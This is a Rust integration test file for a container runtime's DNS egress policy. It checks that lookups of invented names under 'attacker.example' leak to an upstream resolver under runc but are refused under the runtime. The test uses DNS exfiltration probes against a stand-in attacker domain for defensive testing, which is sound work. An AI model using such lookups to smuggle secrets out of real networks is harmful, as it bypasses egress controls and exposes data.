//! DNS as a side channel on a docker user-defined network (threat T18,
//! issue 18): the engine's embedded resolver at `127.0.0.11` forwards any
//! name it does not know to the network's upstream resolvers, so a name a
//! workload makes up (`<secret>.attacker.example`) leaves the container
//! even when its allowlist is empty. moat refuses DNS to every address
//! its allowlist does not name exactly, loopback included.
//!
//! The upstream is the test's own DNS responder on the gateway address
//! of the docker network the test creates (given to docker with
//! `--dns`; docker 20.10 forwards to it from the container's namespace,
//! across the test network's bridge). It answers every A query with a
//! TEST-NET address nobody connects to and logs each name it is asked.
//!
//! The runtime is a docker runtime registered with `--policy` naming
//! [`POLICY`] (the test writes that file): `make test` registers it as
//! `moat-test-egress-dns`. Another registration (a work tree's own) is
//! picked with `MOAT_EGRESS_DNS_RUNTIME`:
//!
//! ```sh
//! MOAT_RUNTIME_NAME=moat-test-egress-dns MOAT_RUNTIME_ARGS='["--policy","/run/moat-egress-dns-test.toml"]' bash hack/docker-register.sh
//! cargo test --release -p moat-integration --test egress_dns -- --test-threads=1
//! ```

use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;
use std::time::Duration;

use moat_integration::docker::{docker, IMAGE};
use moat_integration::network::Server;

/// The policy the registered runtime reads (`--policy` in its runtimeArgs).
const POLICY: &str = "/run/moat-egress-dns-test.toml";
/// The test's docker network (outside 10.231/16, the egress tests' veths).
const SUBNET: &str = "10.232.18.0/24";
const GATEWAY: &str = "10.232.18.1";
/// What the upstream answers (TEST-NET-1; never connected to).
const ANSWER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 53);

/// The docker runtime registered for this test (see the header).
fn egress_dns_runtime() -> String {
    std::env::var("MOAT_EGRESS_DNS_RUNTIME")
        .ok()
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "moat-test-egress-dns".to_string())
}

/// A docker network of the test's; removed (with any container left on
/// it) on drop, also on failure.
struct Network(String);

impl Drop for Network {
    fn drop(&mut self) {
        let ids = docker(&["ps", "-aq", "--filter", &format!("network={}", self.0)]);
        for id in ids.stdout.split_whitespace() {
            let _ = docker(&["rm", "-f", id]);
        }
        let _ = docker(&["network", "rm", &self.0]);
    }
}

/// One test's world: the registered runtime, the test's docker network on
/// [`SUBNET`], [`POLICY`] as the test wrote it and the upstream DNS
/// responder on the network's gateway. On failure the drop removes the
/// responder and the network (with its containers); [`DnsWorld::finish`]
/// also removes the policy and asserts nothing of the network is left.
struct DnsWorld {
    rt: String,
    upstream: Server,
    net: Network,
    gw: Ipv4Addr,
}

impl DnsWorld {
    /// Creates the network `<prefix>-<pid>`, writes [`POLICY`] as `policy`
    /// says given the gateway address, and starts the upstream.
    fn new(prefix: &str, policy: impl FnOnce(Ipv4Addr) -> String) -> DnsWorld {
        let rt = registered_egress_dns_runtime();
        let (net, gw) = test_network(&format!("{prefix}-{}", std::process::id()));
        std::fs::write(POLICY, policy(gw)).unwrap();
        let upstream = Server::dns(
            Path::new("/proc/self/ns/net"),
            SocketAddr::new(gw.into(), 53),
            ANSWER,
        );
        DnsWorld {
            rt,
            upstream,
            net,
            gw,
        }
    }

    /// `docker run --rm` of `sh -c script` under `runtime` on the test's
    /// network, resolving through the upstream; stdout and stderr.
    fn run_sh(&self, runtime: &str, script: &str) -> String {
        let gw = self.gw.to_string();
        let opts = ["--network", &self.net.0, "--dns", &gw];
        run_sh(runtime, &opts, script)
    }

    /// A detached `sleep 300` named `name` on the test's network, with
    /// `opts` added; its id.
    fn sleeper(&self, name: &str, opts: &[&str]) -> String {
        sleeper(name, &[&["--network", &self.net.0], opts].concat())
    }

    /// A detached `sleep 300` under the registered runtime on the test's
    /// network, resolving through the upstream; its id.
    fn moat_sleeper(&self, name: &str) -> String {
        let gw = self.gw.to_string();
        self.sleeper(name, &["--runtime", &self.rt, "--dns", &gw])
    }

    /// A runc neighbour `name` on the test's network with the alias `pg`;
    /// its address.
    fn neighbour(&self, name: &str) -> Ipv4Addr {
        self.sleeper(name, &["--network-alias", "pg"]);
        let ip = docker(&[
            "inspect",
            "--format",
            "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
            name,
        ]);
        ip.stdout
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("no address for {name}: {}", ip.describe()))
    }

    /// None of `names` reached the upstream (given a moment to arrive);
    /// `out` is the containers' output, for the message.
    fn assert_never_upstream(&self, names: &[&str], out: &str) {
        std::thread::sleep(Duration::from_millis(300));
        for name in names {
            assert!(
                !self.upstream.asked(name),
                "{name} reached the upstream under {}:\n{out}",
                self.rt
            );
        }
    }

    /// Stops the upstream, removes the network and the policy, and asserts
    /// nothing of the network is left.
    fn finish(self) {
        let DnsWorld { upstream, net, .. } = self;
        let name = net.0.clone();
        drop(upstream);
        drop(net);
        let _ = std::fs::remove_file(POLICY);
        assert_network_gone(&name);
    }
}

/// `docker run --rm --runtime RUNTIME OPTS IMAGE sh -c SCRIPT`: stdout
/// and stderr.
fn run_sh(runtime: &str, opts: &[&str], script: &str) -> String {
    let args = [
        &["run", "--rm", "--runtime", runtime],
        opts,
        &[IMAGE, "sh", "-c", script],
    ]
    .concat();
    docker(&args).combined()
}

/// `docker run -d --name NAME OPTS IMAGE sleep 300`, which must start; the
/// container's id.
fn sleeper(name: &str, opts: &[&str]) -> String {
    let args = [
        &["run", "-d", "--name", name],
        opts,
        &[IMAGE, "sleep", "300"],
    ]
    .concat();
    let started = docker(&args);
    assert!(started.ok(), "docker run {name}: {}", started.describe());
    started.stdout.trim().to_string()
}

/// A script looking up each of `names` (at most 10 s each) and printing
/// `NS<n>=<status>` after the n-th lookup's output, counted from 1.
fn nslookups(names: &[&str]) -> String {
    names
        .iter()
        .enumerate()
        .map(|(i, name)| format!("timeout 10 nslookup {name} 2>&1; echo NS{}=$?", i + 1))
        .collect::<Vec<_>>()
        .join("; ")
}

/// `out` of [`nslookups`] of a neighbour's name, its alias `pg` and a
/// made-up name: the first two resolved to `ip`, the made-up one did not
/// (and the upstream's answer is nowhere).
fn assert_neighbours_only(out: &str, ip: Ipv4Addr, rt: &str) {
    let want = format!("Address: {ip}");
    let answers = out.lines().filter(|l| l.trim() == want).count();
    assert!(
        out.contains("NS1=0") && out.contains("NS2=0") && answers >= 2,
        "the neighbour's name and alias did not resolve to {ip} under {rt}:\n{out}"
    );
    assert!(!out.contains("NS3=0"), "the made-up name resolved:\n{out}");
    assert!(!out.contains(&ANSWER.to_string()), "{out}");
}

/// T18 (DNS side channel, docker): a made-up name looked up through the
/// embedded resolver never reaches the upstream under moat. The same
/// lookup under runc does (the channel the test closes is real), and
/// nothing of the test is left afterwards.
#[test]
fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
    let w = DnsWorld::new("moat-egdns", |_| {
        format!("[egress]\nallow = [\"{SUBNET}\"]\n")
    });
    let me = std::process::id();

    let control = format!("control-{me}.attacker.example");
    let out = w.run_sh("runc", &nslookups(&[&control]));
    assert!(
        w.upstream.asked(&control),
        "under runc the upstream never saw {control}: the test cannot show the channel\n{out}"
    );

    let secret = format!("secret-{me}.attacker.example");
    let out = w.run_sh(&w.rt, &nslookups(&[&secret]));
    assert!(out.contains("NS1="), "the container did not run:\n{out}");
    assert!(
        !out.contains("NS1=0"),
        "the lookup succeeded under {}:\n{out}",
        w.rt
    );
    assert!(!out.contains(&ANSWER.to_string()), "{out}");
    w.assert_never_upstream(&[&secret], &out);
    w.finish();
}

/// The runtime registered for these tests, asserted to read [`POLICY`].
fn registered_egress_dns_runtime() -> String {
    let rt = egress_dns_runtime();
    let info = docker(&["info", "--format", "{{json .Runtimes}}"]);
    let registered = info.ok()
        && serde_json::from_str::<serde_json::Value>(&info.stdout)
            .ok()
            .and_then(|v| v.get(&rt)?.get("runtimeArgs")?.as_array().cloned())
            .is_some_and(|args| {
                args.windows(2)
                    .any(|w| w[0] == "--policy" && w[1] == POLICY)
            });
    assert!(
        registered,
        "runtime {rt} is not registered with --policy {POLICY} (see this file's header): {}",
        info.describe()
    );
    rt
}

/// A docker network of the test's on [`SUBNET`] and its IPv4 gateway.
fn test_network(name: &str) -> (Network, Ipv4Addr) {
    let net = Network(name.to_string());
    let created = docker(&[
        "network",
        "create",
        "--subnet",
        SUBNET,
        "--gateway",
        GATEWAY,
        &net.0,
    ]);
    assert!(
        created.ok(),
        "docker network create: {}",
        created.describe()
    );
    let inspect = docker(&[
        "network",
        "inspect",
        "--format",
        "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
        &net.0,
    ]);
    assert!(
        inspect.ok(),
        "docker network inspect: {}",
        inspect.describe()
    );
    let gw: Ipv4Addr = inspect
        .stdout
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("no IPv4 gateway: {:?}", inspect.stdout));
    (net, gw)
}

/// Nothing is left of the test's docker network `name`.
fn assert_network_gone(name: &str) {
    let left = docker(&["ps", "-aq", "--filter", &format!("network={name}")]).stdout;
    assert!(left.trim().is_empty(), "containers left: {left}");
    let inspect = docker(&["network", "inspect", name]);
    assert!(!inspect.ok(), "the test's docker network is still there");
}

/// T18, issue 18 item 2: with name entries, a moat container's DNS goes
/// to moat's resolver, `127.0.0.11` included. The names of the other
/// containers on its docker network (name and `--network-alias`) are
/// answered from dockerd's own record of the network, a made-up name is
/// REFUSED, and neither reaches the upstream: moat never forwards to the
/// engine's resolver, which would send the made-up name on.
#[test]
fn docker_container_names_resolve_through_moat_and_made_up_names_do_not_leave() {
    let w = DnsWorld::new("moat-egnames", |gw| {
        format!(
            "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\n"
        )
    });
    let me = std::process::id();
    let db = format!("moat-egdb-{me}");
    let ip = w.neighbour(&db);

    let secret = format!("secret-{me}.attacker.example");
    let out = w.run_sh(&w.rt, &nslookups(&[&db, "pg", &secret]));
    assert_neighbours_only(&out, ip, &w.rt);
    w.assert_never_upstream(&[&secret, &db, "pg"], &out);
    w.finish();
}

/// T18, issue 18 item 3 with docker: a moat container joining another's
/// network namespace (`--network container:X`) with the same policy and
/// name entries resolves through the one serving of that namespace (an
/// allowed name answered, a made-up one refused and never upstream), and
/// X is still served after the joiner is gone.
#[test]
fn docker_network_container_pair_shares_the_resolver() {
    let w = DnsWorld::new("moat-egpair", |gw| {
        format!(
            "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\nprivate_answers = [\"svc.moat.test {ANSWER}/32\"]\n"
        )
    });
    let me = std::process::id();
    let x = format!("moat-egx-{me}");
    w.moat_sleeper(&x);
    let secret = format!("secret-{me}.attacker.example");
    let joined = format!("container:{x}");
    let out = run_sh(
        &w.rt,
        &["--network", &joined],
        &nslookups(&["svc.moat.test", &secret]),
    );
    let want = format!("Address: {ANSWER}");
    assert!(
        out.contains("NS1=0") && out.lines().any(|l| l.trim() == want),
        "the joiner's allowed name did not resolve:\n{out}"
    );
    assert!(!out.contains("NS2=0"), "the made-up name resolved:\n{out}");
    w.assert_never_upstream(&[&secret], &out);
    assert!(w.upstream.asked("svc.moat.test"), "{out}");
    // X is still served after the joiner's delete.
    let again = docker(&["exec", &x, "sh", "-c", &nslookups(&["svc.moat.test"])]);
    assert!(
        again.stdout.contains("NS1=0") && again.stdout.lines().any(|l| l.trim() == want),
        "{x} lost its resolver: {}",
        again.describe()
    );
    w.finish();
}

/// T18, issue 18 item 2 for every docker user: with an address-only
/// allowlist (the default policy's kind; events of refused connections
/// off, so only the neighbours' names register the container), a moat
/// container on a user-defined network resolves its neighbours' name and
/// alias through `127.0.0.11` (moat's resolver answers them from
/// dockerd's record), a made-up name is REFUSED and never reaches the
/// upstream, a container on the default bridge is not registered with
/// the resolver at all, and nothing of either is left.
#[test]
fn address_only_containers_resolve_docker_neighbours_and_nothing_else() {
    let w = DnsWorld::new("moat-egaddr", |_| {
        format!("[egress]\nallow = [\"{SUBNET}\"]\nconnection_events = false\n")
    });
    let me = std::process::id();
    let db = format!("moat-egaddr-db-{me}");
    let ip = w.neighbour(&db);

    // B: on the user-defined network, under moat, the default kind of policy.
    let b = format!("moat-egaddr-b-{me}");
    let b_id = w.moat_sleeper(&b);
    let registration = registration_of(&b_id)
        .unwrap_or_else(|| panic!("{b} is not registered with moat's resolver"));
    assert_eq!(
        registration["docker_container"].as_str(),
        Some(b_id.as_str()),
        "{registration}"
    );
    assert_eq!(
        registration["names"],
        serde_json::json!([]),
        "{registration}"
    );
    let secret = format!("secret-{me}.attacker.example");
    let script = nslookups(&[&db, "pg", &secret]);
    let out = docker(&["exec", &b, "sh", "-c", &script]).combined();
    assert_neighbours_only(&out, ip, &w.rt);
    assert!(
        out.contains("REFUSED"),
        "the made-up name was not REFUSED:\n{out}"
    );

    // C: on the default bridge: no resolver for it.
    let c = format!("moat-egaddr-c-{me}");
    let c_id = sleeper(&c, &["--runtime", &w.rt]);
    assert!(
        registration_of(&c_id).is_none(),
        "{c} on the default bridge was registered with moat's resolver"
    );
    let _ = docker(&["rm", "-f", &c]);

    w.assert_never_upstream(&[&secret, &db, "pg"], &out);
    let _ = docker(&["rm", "-f", &b]);
    // Its registration goes with its delete.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while registration_of(&b_id).is_some() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        registration_of(&b_id).is_none(),
        "{b}'s registration is left"
    );
    w.finish();
}

/// The resolver registration of moat container `id` under any state root
/// docker's runtimes use (`/run/docker/runtime-runc/moby`), as
/// JSON.
fn registration_of(id: &str) -> Option<serde_json::Value> {
    if id.is_empty() {
        return None;
    }
    // docker 20.10 hands its runtimes this root (no link in it here).
    let roots = ["/run/docker/runtime-runc/moby", "/run/containerd/runc/moby"];
    roots.iter().find_map(|root| {
        let path = moat::resolver::dir(Path::new(root))
            .join("containers")
            .join(id);
        let text = std::fs::read(path).ok()?;
        serde_json::from_slice(&text).ok()
    })
}
